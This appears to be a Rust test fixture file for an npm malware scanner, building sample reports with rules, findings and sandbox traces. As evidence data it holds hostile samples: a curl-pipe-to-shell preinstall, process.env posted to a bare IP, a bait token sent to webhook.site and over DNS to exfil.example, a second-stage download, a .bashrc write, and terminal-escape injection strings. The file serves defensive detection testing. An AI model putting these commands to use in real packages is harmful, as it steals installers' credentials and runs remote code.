//! Representative reports, built by hand so the tests do not depend on the rules crate.

use dsca_model::dynamic::{
    Connection, DnsQuery, DroppedEvents, DynamicAnalysis, Exec, Exfiltration, FileEvent, FileOp,
    HoneytokenRead, Honeytokens, HttpRequest, PhaseResult, PhaseStatus, Process, SandboxInfo,
};
use dsca_model::{
    Behaviour, Category, Evidence, Finding, Location, PackageInfo, PrevalenceTier, Report,
    ReportError, Rule, Severity, Signal, Source, npm_purl,
};

pub const INSTALL_SCRIPT: Rule = Rule {
    id: "DSCA101",
    name: "install-script",
    category: Category::InstallScripts,
    signal: Signal::Trigger,
    severity: Severity::Medium,
    title: "Runs code on install",
    problem: "npm runs preinstall, install and postinstall scripts with the installing user's \
              rights as soon as the package is installed, before any of its code is imported. \
              Most malicious npm packages act from such a script.",
    next_steps: "Read the script and every file it runs. Install with --ignore-scripts when the \
                 package does not need them.",
    severities: &[Severity::Medium],
    catches: "test rule",
};

pub const RISKY_INSTALL_COMMAND: Rule = Rule {
    id: "DSCA102",
    name: "risky-install-command",
    category: Category::InstallScripts,
    signal: Signal::Behaviour,
    severity: Severity::High,
    title: "Install script downloads or runs a shell",
    problem: "An install script that fetches code, decodes a payload or opens a shell runs \
              something that was not in the reviewed tarball.",
    next_steps: "Do not install this version. Compare it with the previous release and report \
                 it to the registry if the change is not explained.",
    severities: &[Severity::High],
    catches: "test rule",
};

pub const ENV_EXFILTRATION: Rule = Rule {
    id: "DSCA301",
    name: "env-exfiltration",
    category: Category::Network,
    signal: Signal::Identity,
    severity: Severity::Critical,
    title: "Sends environment variables over the network",
    problem: "Code reads the process environment, where CI tokens and cloud credentials live, \
              and sends it to a remote host.",
    next_steps: "Treat every secret on machines that installed this version as leaked: rotate \
                 them, and remove the package.",
    severities: &[Severity::Critical],
    catches: "test rule",
};

/// A rule that ran but did not fire on any fixture: SARIF must still list it.
pub const TYPOSQUAT: Rule = Rule {
    id: "DSCA201",
    name: "typosquat",
    category: Category::Naming,
    signal: Signal::Trigger,
    severity: Severity::Medium,
    title: "Name imitates a popular package",
    problem: "The name is one small edit away from a popular package.",
    next_steps: "Check that this is the package you meant.",
    severities: &[Severity::Medium],
    catches: "test rule",
};

pub fn rules() -> Vec<&'static Rule> {
    vec![
        &INSTALL_SCRIPT,
        &RISKY_INSTALL_COMMAND,
        &ENV_EXFILTRATION,
        &TYPOSQUAT,
    ]
}

fn package(name: &str, version: &str, description: &str) -> PackageInfo {
    PackageInfo {
        name: name.to_string(),
        version: Some(version.to_string()),
        purl: Some(npm_purl(name, version)),
        integrity: Some(format!("sha512-{}==", "A".repeat(86))),
        published: Some("2024-03-01T09:30:00.000Z".to_string()),
        description: Some(description.to_string()),
    }
}

fn registry(name: &str, version: &str) -> Source {
    let base = name.rsplit('/').next().unwrap_or(name);
    Source::Registry {
        registry: "https://registry.npmjs.org/".to_string(),
        tarball: format!("https://registry.npmjs.org/{name}/-/{base}-{version}.tgz"),
    }
}

pub fn clean() -> Report {
    let mut report = Report::new(
        "left-pad@^1",
        package("left-pad", "1.3.0", "String left pad"),
        registry("left-pad", "1.3.0"),
    );
    report.finalize();
    report
}

pub fn malicious() -> Report {
    let mut report = Report::new(
        "./evil-utils-2.0.1.tgz",
        package(
            "@evil/utils",
            "2.0.1",
            // Hostile packages put terminal escapes where a report will print them.
            "Handy utils\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}",
        ),
        Source::Tarball {
            path: "./evil-utils-2.0.1.tgz".to_string(),
        },
    );
    report.findings = vec![
        Finding::new(&INSTALL_SCRIPT, "`postinstall` runs `node setup.js`").with_evidence(
            Evidence::new("postinstall script")
                .at(Location::file("package.json"))
                .with_snippet("node setup.js"),
        ),
        Finding::new(
            &RISKY_INSTALL_COMMAND,
            "`preinstall` pipes a download into a shell",
        )
        .with_evidence(
            Evidence::new("preinstall script")
                .at(Location::file("package.json"))
                .with_snippet("curl -s https://198.51.100.23/x.sh | sh"),
        ),
        Finding::new(
            &ENV_EXFILTRATION,
            "`setup.js` posts process.env to 198.51.100.23",
        )
        .with_evidence(
            Evidence::new("reads the whole environment")
                .at(Location {
                    file: "setup.js".to_string(),
                    line: Some(3),
                    column: Some(15),
                })
                .with_snippet("const data = JSON.stringify(process.env);"),
        )
        .with_evidence(
            Evidence::new("sends it with an HTTPS POST")
                .at(Location::line("lib/send me\u{1b}[8m.js", 12))
                .with_snippet("https.request({ host: '198.51.100.23', method: 'POST' })"),
        )
        .with_evidence(Evidence::new("the host is a bare IP address")),
        // A finding whose rule the caller did not list (SARIF synthesises a descriptor).
        Finding {
            rule: "DSCA805".to_string(),
            name: "obfuscated-code".to_string(),
            category: Category::Obfuscation,
            signal: Signal::Concealment,
            severity: Severity::Low,
            title: "A rule not passed to the printer".to_string(),
            message: "long base64 string".to_string(),
            problem: "Encoded blobs hide what code does.".to_string(),
            next_steps: "Decode it.".to_string(),
            evidence: vec![],
            // As `dsca scan --db` fills it from a results store.
            prevalence: Some(
                [
                    (Some(100), 0, 87),
                    (Some(1000), 3, 812),
                    (Some(10000), 5, 1200),
                ]
                .into_iter()
                .chain([(None, 9, 15000)])
                .map(|(top, packages, scanned)| PrevalenceTier {
                    top,
                    packages,
                    scanned,
                })
                .collect(),
            ),
        },
    ];
    let http_evidence = (1..=7)
        .map(|i| Evidence::new("https.request").at(Location::line("setup.js", 10 + i)))
        .collect();
    report.behaviours = vec![
        Behaviour {
            id: "network.https-request".to_string(),
            category: Category::Network,
            description: "Makes HTTPS requests".to_string(),
            count: 7,
            evidence: http_evidence,
        },
        Behaviour {
            id: "execution.install-script".to_string(),
            category: Category::Execution,
            description: "Runs scripts on install".to_string(),
            count: 2,
            evidence: vec![
                Evidence::new("preinstall").at(Location::file("package.json")),
                Evidence::new("postinstall").at(Location::file("package.json")),
            ],
        },
        Behaviour {
            id: "recon.env-read".to_string(),
            category: Category::Recon,
            description: "Reads environment variables".to_string(),
            count: 1,
            evidence: vec![Evidence::new("process.env").at(Location::line("setup.js", 3))],
        },
    ];
    report.finalize();
    report
}

pub fn failed() -> Report {
    Report::failed(
        "no-such-pkg@latest",
        "no-such-pkg",
        ReportError::new("not-found", "the registry has no package named no-such-pkg"),
    )
}

pub const CREDENTIAL_EXFILTRATION: Rule = Rule {
    id: "DSCA1009",
    name: "credential-exfiltration",
    category: Category::Network,
    signal: Signal::Behaviour,
    severity: Severity::Critical,
    title: "Sent stolen credentials out",
    problem: "dsca planted bait credentials in the sandbox and found their values in what the \
              package sent out.",
    next_steps: "This version is malware. Rotate the real credentials of the same kinds.",
    severities: &[Severity::Critical],
    catches: "test rule",
};

fn exec(time_ms: u64, argv: &[&str]) -> Exec {
    Exec {
        path: format!("/usr/bin/{}", argv.first().copied().unwrap_or_default()),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        time_ms,
    }
}

fn process(pid: u32, ppid: Option<u32>, execs: Vec<Exec>) -> Process {
    Process {
        pid,
        ppid,
        phase: "install".into(),
        execs,
        cwd: Some("/home/user/project".into()),
        end: Some("exited 0".into()),
        outlived: false,
    }
}

fn query(name: &str, qtype: &str, resolver: &str, registry: bool) -> DnsQuery {
    DnsQuery {
        phase: "install".into(),
        name: name.into(),
        qtype: qtype.into(),
        transport: "udp".into(),
        resolver: resolver.into(),
        time_ms: 12,
        pid: Some(30),
        registry,
        answer: "192.0.2.1".into(),
    }
}

fn http(method: &str, url: &str, registry: bool, body: &str) -> HttpRequest {
    HttpRequest {
        phase: "install".into(),
        url: url.into(),
        method: method.into(),
        host: url.split('/').nth(2).unwrap_or_default().into(),
        headers: vec![("user-agent".into(), "node".into())],
        body: body.into(),
        body_bytes: body.len() as u64,
        time_ms: 40,
        destination: "192.0.2.1:443".into(),
        pid: Some(30),
        registry,
        status: 200,
        probe: false,
        fetched: None,
    }
}

/// A package that ran in the sandbox: its postinstall downloaded and ran a second stage,
/// looked up odd names (one with terminal escapes), wrote to ~/.bashrc, left a process
/// running, read the bait ~/.npmrc and sent it out over DNS.
pub fn sandboxed() -> Report {
    let mut report = Report::new(
        "stealer-demo@1.0.0",
        package("stealer-demo", "1.0.0", "Demo"),
        registry("stealer-demo", "1.0.0"),
    );
    let mut daemon = process(32, Some(30), vec![exec(900, &["node", "/tmp/.x/agent.js"])]);
    daemon.outlived = true;
    daemon.end = None;
    let mut timeout = PhaseResult {
        name: "import".into(),
        command: vec!["node".into(), "-e".into(), "require('stealer-demo')".into()],
        status: PhaseStatus::Timeout,
        exit_code: None,
        duration_ms: 60_000,
        timeout_ms: 0,
        clock_offset_days: None,
        busy_ms_at_timeout: None,
        calls_began_ms: None,
        stdout_tail: String::new(),
        stderr_tail: "waiting for c2…\nstill waiting\u{1b}[2J\n".into(),
        error: None,
    };
    timeout.stderr_tail.push_str("giving up\n");
    let mut files = vec![
        FileEvent {
            op: FileOp::Create,
            path: "/home/user/.npm/_cacache/index-v5/aa".into(),
            target: None,
            error: None,
            pid: 1,
            phase: "install".into(),
            time_ms: 20,
        },
        FileEvent {
            op: FileOp::Write,
            path: "/home/user/.bashrc".into(),
            target: None,
            error: None,
            pid: 30,
            phase: "install".into(),
            time_ms: 700,
        },
    ];
    for i in 0..12 {
        files.push(FileEvent {
            op: FileOp::Create,
            path: format!("/home/user/.local/share/x/{i}"),
            target: None,
            error: None,
            pid: 30,
            phase: "install".into(),
            time_ms: 710 + i,
        });
    }
    report.dynamic = Some(DynamicAnalysis {
        sandbox: SandboxInfo {
            namespaces: ["user", "mount", "pid", "net", "uts", "ipc"]
                .map(String::from)
                .to_vec(),
            tracer: "strace".into(),
            hostname: "sandbox".into(),
            user: "user".into(),
            registry_hosts: vec!["registry.npmjs.org".into()],
            all_ports: true,
            home: "/home/user".into(),
            project_dir: "/home/user/project".into(),
            resolver: "10.0.2.3".into(),
            timezone: String::new(),
            skipped_phases: Vec::new(),
            memory: None,
            memory_limit_missing: String::new(),
        },
        domains_outside_registry: vec!["cdn.attacker.example".into()],
        phases: vec![
            PhaseResult {
                name: "install".into(),
                command: vec!["npm".into(), "install".into(), "stealer-demo".into()],
                status: PhaseStatus::Completed,
                exit_code: Some(0),
                duration_ms: 4_250,
                timeout_ms: 0,
                clock_offset_days: None,
                busy_ms_at_timeout: None,
                calls_began_ms: None,
                stdout_tail: "added 1 package\n".into(),
                stderr_tail: String::new(),
                error: None,
            },
            timeout,
        ],
        dns: vec![
            query("registry.npmjs.org", "A", "10.0.2.3:53", true),
            query("c2.example", "TXT", "8.8.8.8:53", false),
            query("c2.example", "TXT", "8.8.8.8:53", false),
            query(
                "6e706d5f746f6b656e.x.exfil.example",
                "A",
                "10.0.2.3:53",
                false,
            ),
            query("evil\u{1b}]0;pwned\u{7}.example", "A", "10.0.2.3:53", false),
        ],
        connections: vec![
            Connection {
                phase: "install".into(),
                protocol: "tcp".into(),
                destination: "10.0.2.2".into(),
                port: 443,
                name: Some("registry.npmjs.org".into()),
                time_ms: 15,
                pid: Some(1),
                kind: "registry".into(),
                sni: Some("registry.npmjs.org".into()),
                first_bytes: String::new(),
                bytes_received: 2048,
            },
            Connection {
                phase: "install".into(),
                protocol: "tcp".into(),
                destination: "198.51.100.23".into(),
                port: 4444,
                name: None,
                time_ms: 800,
                pid: Some(32),
                kind: "raw".into(),
                sni: None,
                first_bytes: "HELLO\\x00\\x01".into(),
                bytes_received: 7,
            },
        ],
        http: vec![
            http("GET", "https://registry.npmjs.org/stealer-demo", true, ""),
            http("GET", "http://198.51.100.7/stage2.sh", false, ""),
            http("POST", "https://webhook.site/0000", false, "token=npm_bait"),
            HttpRequest {
                fetched: Some(
                    "fetched on the host: HTTP 200, 5120 bytes from http://packages.example/helper.tgz"
                        .into(),
                ),
                ..http("GET", "http://packages.example/helper.tgz", false, "")
            },
        ],
        processes: vec![
            process(1, None, vec![exec(0, &["npm", "install", "stealer-demo"])]),
            process(29, Some(1), vec![exec(300, &["sh", "-c", "node setup.js"])]),
            process(30, Some(29), vec![exec(310, &["node", "setup.js"])]),
            process(
                31,
                Some(30),
                vec![exec(400, &["curl", "-s", "http://198.51.100.7/stage2.sh"])],
            ),
            daemon,
            // A parent loop: never reached from a root.
            process(50, Some(51), vec![exec(1, &["a"])]),
            process(51, Some(50), vec![exec(1, &["b"])]),
        ],
        files,
        honeytokens: Honeytokens {
            planted: vec!["~/.npmrc (npm token)".into(), "env NPM_TOKEN".into()],
            reads: vec![HoneytokenRead {
                phase: "install".into(),
                path: "~/.npmrc".into(),
                pid: 30,
                process: "node setup.js".into(),
                time_ms: 650,
            }],
            exfiltrations: vec![Exfiltration {
                phase: "install".into(),
                token: "NPM_TOKEN".into(),
                encoding: "hex".into(),
                channel: "dns".into(),
                destination: "6e706d5f746f6b656e.x.exfil.example".into(),
                pid: Some(30),
                time_ms: 660,
            }],
        },
        probes: Vec::new(),
        dropped: vec![DroppedEvents {
            table: "files".into(),
            count: 3,
        }],
    });
    report.findings = vec![
        Finding::new(
            &CREDENTIAL_EXFILTRATION,
            "sent the bait NPM_TOKEN out over dns to `6e706d5f746f6b656e.x.exfil.example`",
        )
        .with_evidence(Evidence::new(
            "NPM_TOKEN (hex encoded) over dns to `6e706d5f746f6b656e.x.exfil.example` at 660 ms",
        )),
    ];
    report.finalize();
    report
}

pub fn all() -> Vec<Report> {
    vec![clean(), malicious(), failed()]
}

/// A named way to break a valid document, for the schema-rejection tests.
pub type Mutation = (&'static str, fn(&mut serde_json::Value));
